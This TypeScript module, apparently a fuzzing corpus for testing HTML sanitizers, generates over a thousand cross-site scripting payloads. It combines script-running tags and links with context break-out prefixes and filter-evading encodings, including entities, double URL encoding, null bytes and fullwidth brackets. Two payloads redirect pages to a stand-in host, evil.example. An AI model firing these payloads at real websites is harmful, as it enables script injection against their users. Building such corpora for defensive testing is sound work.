/** Payloads that run code, in the shortest forms that browsers accept. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<form action=javascript:alert(1)><button>a</button></form>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '[a](javascript:alert(1))',
  '" onmouseover="alert(1)',
]

/** Prefixes that break out of the context of a text, if it is not escaped. */
const CONTEXTS = [
  '',
  '">',
  "'>",
  '-->',
  ']]>',
  '</title>',
  '</script>',
  '</code></pre>',
  '`',
  '\n\n',
  ']( ',
  '|',
]

const entity = (letter: string, base: 10 | 16, end: string) =>
  `&#${base === 16 ? 'x' : ''}${letter.charCodeAt(0).toString(base)}${end}`
const special = /[<>"'&()[\]:/]/g

/** Encodings that a step which decodes too often would decode. */
const ENCODINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replace(special, (letter) => entity(letter, 10, ';')),
  (text) => text.replace(special, (letter) => entity(letter, 16, '')),
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replace(special, (letter) => `\\u00${letter.charCodeAt(0).toString(16)}`),
  (text) => text.replace(special, '\\$&'),
  (text) => text.replace(/[a-z](?=[a-z])/i, '$&\u0000'),
  (text) => text.replace(/(?<=[<:/])/g, '\t'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
]

/** Each payload in each context and encoding: over a thousand. */
export const GENERATED: readonly string[] = [
  ...new Set(
    PAYLOADS.flatMap((payload) =>
      CONTEXTS.flatMap((context) => ENCODINGS.map((encode) => encode(context + payload))),
    ),
  ),
]
